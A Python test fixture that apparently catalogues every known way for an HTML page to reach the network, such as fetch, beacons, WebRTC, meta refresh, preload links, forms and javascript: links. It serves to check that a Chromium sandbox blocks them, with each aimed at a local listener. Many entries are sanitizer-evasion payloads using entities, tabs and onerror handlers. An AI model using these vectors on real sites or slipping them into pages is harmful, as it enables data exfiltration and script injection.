"""Every way that is known out of a page: what the walled garden must stop, one escape per page.

`TARGET` stands for the address of a listener that is the escape's own, `HOSTPORT` for its host and port. Nothing else
ever connects there: one connection, even one without a byte, is an escape.
"""
import dataclasses


@dataclasses.dataclass(frozen=True)
class Escape:
    name: str
    html: str
    # What a person is made to click on.
    click: str | None = None

    def page(self, port: int) -> str:
        return aimed(self.html, port)


def aimed(text: str, port: int) -> str:
    host_port = f"127.0.0.1:{port}"
    return text.replace("TARGET", f"http://{host_port}/").replace("HOSTPORT", host_port)


def body(markup: str, head: str = "", attributes: str = "") -> str:
    return (f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>t</title>{head}</head>'
            f'<body{attributes}><h1>t</h1>{markup}</body></html>')


def script(code: str) -> str:
    return body(f"<script>{code}</script>")


def handler(code: str) -> str:
    """The same code where no filter of elements finds it."""
    return body(f"""<img src="data:," onerror="{code.replace('"', "&quot;")}" alt="">""")


def link(rel: str, more: str = "") -> str:
    return body("", head=f'<link rel="{rel}" href="TARGET" {more}>')


# What a page can do when a script of it runs. TARGET and HOSTPORT as above.
CODE = {
    "fetch": "fetch('TARGET', {mode: 'no-cors'})",
    "fetch-keepalive": "fetch('TARGET', {mode: 'no-cors', method: 'POST', keepalive: true, body: 'x'})",
    "xhr": "var x = new XMLHttpRequest(); x.open('GET', 'TARGET'); x.send()",
    "websocket": "new WebSocket('ws://HOSTPORT/websocket')",
    "event-source": "new EventSource('TARGET')",
    "beacon": "navigator.sendBeacon('TARGET', 'x')",
    "image-object": "new Image().src = 'TARGET'",
    "audio-object": "new Audio('TARGET').load()",
    "font-face": "new FontFace('f', 'url(TARGET)').load()",
    "worker": "new Worker(webkitURL.createObjectURL(new Blob([`fetch('http://HOSTPORT/worker')`])))",
    "import": "import('TARGET')",
    "style-element": "var s = document.createElement('style'); s.textContent = '@import url(TARGET);';"
                     " document.head.append(s)",
    "style-property": "document.body.style.backgroundImage = 'url(TARGET)'",
    "link-element": "var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'TARGET';"
                    " document.head.append(l)",
    "script-element": "var s = document.createElement('script'); s.src = 'TARGET'; document.head.append(s)",
    "frame-element": "var f = document.createElement('iframe'); f.src = 'TARGET'; document.body.append(f)",
    "object-element": "var o = document.createElement('object'); o.data = 'TARGET'; document.body.append(o)",
    "form-submit": "var f = document.createElement('form'); f.action = 'TARGET'; f.method = 'post';"
                   " document.body.append(f); f.submit()",
    "window-open": "window.open('TARGET')",
    "location": "location.href = 'TARGET'",
    "inner-html": "document.body.innerHTML = '<img src=TARGET>'",
}

# WebRTC asks over UDP and no policy of Chromium knows it: the page must not run the script at all.
WEBRTC = ("var c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOSTPORT'}]}); c.createDataChannel('x');"
          " c.createOffer().then((o) => c.setLocalDescription(o))")

MARKUP = {
    "img": body('<img src="TARGET" alt="">'),
    "img-srcset": body('<img srcset="TARGET 1x, TARGET?2 2x" alt="">'),
    "img-attribution": body('<img src="data:," attributionsrc="TARGET" alt="">'),
    "img-lowsrc": body('<img lowsrc="TARGET" dynsrc="TARGET" longdesc="TARGET" alt="">'),
    "img-capitals": body('<IMG SRC=HTTP://HOSTPORT/img-capitals>'),
    "img-entities": body('<img src="h&#x74;tp&colon;//HOSTPORT/img-entities" alt="">'),
    "img-tab": body('<img src="ht\ttp:/&#10;/HOSTPORT/img-tab" alt="">'),
    "img-backslash": body('<img src="http:\\\\HOSTPORT\\img-backslash" alt="">'),
    "img-protocol-relative": body('<img src="//HOSTPORT/img-protocol-relative" alt="">'),
    "img-before-head": '<img src="TARGET" alt=""><html><head></head><body></body></html>',
    "img-comment-head": '<!-- <head> --><!DOCTYPE html><html><head></head><body><img src="TARGET" alt=""></body></html>',
    "picture": body('<picture><source srcset="TARGET"><img src="data:," alt=""></picture>'),
    "input-image": body('<input type="image" src="TARGET" alt="">'),
    "body-background": body("", attributes=' background="TARGET"'),
    "table-background": body('<table background="TARGET"><tr><td background="TARGET?cell">x</td></tr></table>'),
    "video": body('<video src="TARGET" autoplay muted></video>'),
    "video-poster": body('<video poster="TARGET" width="100" height="100"></video>'),
    "video-source": body('<video autoplay muted><source src="TARGET" type="video/mp4"></video>'),
    "audio": body('<audio src="TARGET" preload="auto"></audio>'),
    "track": body('<video muted crossorigin="anonymous"><track default kind="subtitles" src="TARGET"></video>'),
    "svg-image": body('<svg width="9" height="9"><image href="TARGET" width="9" height="9"/></svg>'),
    "svg-xlink-image": body('<svg width="9" height="9"><image xlink:href="TARGET" width="9" height="9"/></svg>'),
    "svg-fe-image": body('<svg width="9" height="9"><filter id="f"><feImage href="TARGET"/></filter>'
                         '<rect width="9" height="9" filter="url(#f)"/></svg>'),
    "svg-use": body('<svg width="9" height="9"><use href="TARGET#x"/></svg>'),
    "svg-fill": body('<svg width="9" height="9"><rect width="9" height="9" fill="url(TARGET#x)"/></svg>'),
    "svg-style": body('<svg><style>@import url(TARGET);</style></svg>'),
    "svg-script": body('<svg><script href="TARGET"></script></svg>'),
    "svg-mask": body('<svg width="9" height="9"><rect width="9" height="9" mask="url(TARGET#x)"/></svg>'),
    "style-element": body("", head="<style>body { background: url(TARGET); }</style>"),
    "style-import": body("", head="<style>@import url(TARGET);</style>"),
    "style-font": body("", head="<style>@font-face { font-family: f; src: url(TARGET); } h1 { font-family: f; }</style>"),
    "style-attribute": body('<p style="background: url(TARGET)">x</p>'),
    "style-released": body('<p class="u">x</p><p class="i">x</p>', head='<link rel="stylesheet" href="{style}">'),
    "link-stylesheet": link("stylesheet"),
    "link-alternate-stylesheet": link("alternate stylesheet"),
    "link-protocol-relative": body("", head='<link rel="stylesheet" href="//HOSTPORT/link-protocol-relative">'),
    "link-icon": link("icon"),
    "link-preload": link("preload", 'as="image"'),
    "link-preload-fetch": link("preload", 'as="fetch" crossorigin'),
    "link-modulepreload": link("modulepreload"),
    "link-prefetch": link("prefetch"),
    "link-prerender": link("prerender"),
    "link-preconnect": link("preconnect"),
    "link-preconnect-anonymous": link("preconnect", "crossorigin"),
    "link-dns-prefetch": link("dns-prefetch"),
    "link-manifest": link("manifest"),
    "link-import": link("import"),
    "link-unquoted": body("", head="<link rel=preconnect href=TARGET>"),
    "link-slashes": body("", head='<link/rel="preconnect"/href="TARGET">'),
    "link-form-feed": body("", head='<link\frel="preconnect"\fhref="TARGET">'),
    "link-in-body": body('<p><link rel="preconnect" href="TARGET"></p>'),
    "link-in-noscript": body("", head='<noscript><link rel="preconnect" href="TARGET"></noscript>'),
    "link-in-svg": body('<svg><foreignObject><link rel="stylesheet" href="TARGET"></foreignObject></svg>'),
    "speculation-rules": body("", head='<script type="speculationrules">{"prefetch":[{"urls":["TARGET"]}],'
                                       '"prerender":[{"urls":["TARGET"]}]}</script>'),
    "meta-refresh": body("", head='<meta http-equiv="refresh" content="0; url=TARGET">'),
    "meta-refresh-capitals": body("", head="<META HTTP-EQUIV='Refresh' CONTENT=\"0;URL='TARGET'\">"),
    "meta-refresh-entities": body("", head='<meta http-equiv="refr&#101;sh" content="0; url=TARGET">'),
    "meta-link": body("", head='<meta http-equiv="Link" content="<TARGET>; rel=preconnect">'),
    "meta-prefetch-control": body('<a href="http://HOSTPORT/">x</a>',
                                  head='<meta http-equiv="x-dns-prefetch-control" content="on">'),
    "base": body('<img src="base" alt="">', head='<base href="http://HOSTPORT/">'),
    "base-link": body('<a id="go" href="base-link">x</a>', head='<base href="http://HOSTPORT/">'),
    "iframe": body('<iframe src="TARGET"></iframe>'),
    "iframe-srcdoc": body("""<iframe srcdoc="<img src='TARGET'>"></iframe>"""),
    "iframe-javascript": body("""<iframe src="javascript:location='TARGET'"></iframe>"""),
    "iframe-data": body("""<iframe src="data:text/html,<img src='TARGET'>"></iframe>"""),
    "frameset": '<html><head></head><frameset><frame src="TARGET"></frameset></html>',
    "object": body('<object data="TARGET"></object>'),
    "object-type": body('<object data="TARGET" type="image/png"></object>'),
    "embed": body('<embed src="TARGET">'),
    "applet": body('<applet code="x" archive="TARGET"></applet>'),
    "portal": body('<portal src="TARGET"></portal>'),
    "fencedframe": body('<fencedframe src="TARGET"></fencedframe>'),
    "script-src": body('<script src="TARGET"></script>'),
    "script-module": body('<script type="module" src="TARGET"></script>'),
    "script-slash": body('<script/src="TARGET"></script>'),
    "script-open": body('<script src="TARGET" '),
    "handler-load": body("", attributes=""" onload="new Image().src='TARGET'" """),
    "handler-svg": body("""<svg onload="new Image().src='TARGET'"></svg>"""),
    "handler-toggle": body("""<details open ontoggle="new Image().src='TARGET'">x</details>"""),
    "handler-focus": body("""<input autofocus onfocus="new Image().src='TARGET'">"""),
    "bgsound": body('<bgsound src="TARGET">'),
    "html-manifest": '<html manifest="TARGET"><head></head><body>x</body></html>',
    "shadow-root": body('<div><template shadowrootmode="open"><style>@import url(TARGET);</style></template></div>'),
}

CLICKS = {
    "a": '<a id="go" href="TARGET">x</a>',
    "a-ping": '<a id="go" href="#t" ping="TARGET">x</a>',
    "a-ping-out": '<a id="go" href="TARGET" ping="TARGET?ping">x</a>',
    "a-blank": '<a id="go" target="_blank" href="TARGET">x</a>',
    "a-top": '<a id="go" target="_top" href="TARGET">x</a>',
    "a-download": '<a id="go" download href="TARGET">x</a>',
    "a-backslash": '<a id="go" href="\\\\HOSTPORT\\a-backslash">x</a>',
    "a-javascript": """<a id="go" href="javascript:location='TARGET'">x</a>""",
    "a-javascript-tab": """<a id="go" href="java&#9;script:location='TARGET'">x</a>""",
    "a-javascript-capitals": """<a id="go" href="&#1;JaVaScRiPt&colon;location='TARGET'">x</a>""",
    "a-data": """<a id="go" href="data:text/html,<img src='TARGET'>">x</a>""",
    "a-blob": '<a id="go" href="blob:http://HOSTPORT/a-blob">x</a>',
    "a-unreadable": '<a id="go" href="http://HOSTPORT:99999/">x</a>',
    "a-view-source": '<a id="go" href="view-source:TARGET">x</a>',
    "area": '<map name="m"><area shape="default" href="TARGET" alt="x"></map>'
            '<img id="go" usemap="#m" width="50" height="50" src="data:image/gif;base64,'
            'R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" alt="x">',
    "svg-a": '<svg width="90" height="30"><a id="go" href="TARGET"><text y="20">xxxx</text></a></svg>',
    "svg-a-xlink": '<svg width="90" height="30"><a id="go" xlink:href="TARGET"><text y="20">xxxx</text></a></svg>',
    "svg-a-animated": '<svg width="90" height="30"><a id="go" href="#t"><animate attributeName="href" values="TARGET"/>'
                      '<text y="20">xxxx</text></a></svg>',
    "math-a": '<math href="TARGET"><mtext id="go">xxxx</mtext></math>',
    "form-get": '<form action="TARGET"><button id="go">x</button></form>',
    "form-post": '<form action="TARGET" method="post"><input name="a" value="b"><button id="go">x</button></form>',
    "form-formaction": '<form id="f"></form><button id="go" form="f" formaction="TARGET">x</button>',
    "form-image": '<form action="TARGET"><input type="image" id="go" alt="x" src="data:,"></form>',
    "shadow-link": '<span id="go"><template shadowrootmode="closed"><a href="TARGET">xxxx</a></template></span>',
}

ESCAPES = (
    [Escape(name, html) for name, html in MARKUP.items()]
    + [Escape(f"script-{name}", script(code)) for name, code in (CODE | {"webrtc": WEBRTC}).items()]
    + [Escape(f"handler-{name}", handler(code)) for name, code in (CODE | {"webrtc": WEBRTC}).items()]
    + [Escape("base-link", MARKUP["base-link"], click="#go")]
    # Some builds of Chromium give no focus by itself to what is in a frame of another origin; a person does in all of them.
    + [Escape("handler-focus", MARKUP["handler-focus"], click="input")]
    + [Escape(name, body(markup), click="#go") for name, markup in CLICKS.items()]
)
ESCAPES = list({escape.name: escape for escape in ESCAPES}.values())

# The release's own style sheet, which passes as what it is: what it asks for is up to the page's policy.
STYLE = """
@import url(http://HOSTPORT/style-released-import);
@font-face { font-family: f; src: url(http://HOSTPORT/style-released-font); }
h1 { font-family: f; }
.u { background: url(http://HOSTPORT/style-released); list-style-image: url(http://HOSTPORT/style-released-list); }
.i { background: image-set("http://HOSTPORT/style-released-set" 1x); cursor: url(http://HOSTPORT/style-released-cursor), auto; }
"""

# What Chromium does not do for anybody, or only when it likes: kept because other browsers might, or did.
INERT = {
    "a-blob", "a-data", "a-unreadable", "a-view-source", "applet", "bgsound", "fencedframe", "html-manifest",
    "img-attribution", "img-lowsrc", "link-dns-prefetch", "link-import", "link-in-noscript", "link-manifest",
    "link-prerender", "math-a", "meta-link", "meta-prefetch-control", "portal", "speculation-rules", "svg-use",
}

# Of these, what leaves nothing that could be refused.
SILENT = {"bgsound", "html-manifest", "img-attribution", "img-lowsrc", "svg-use"}
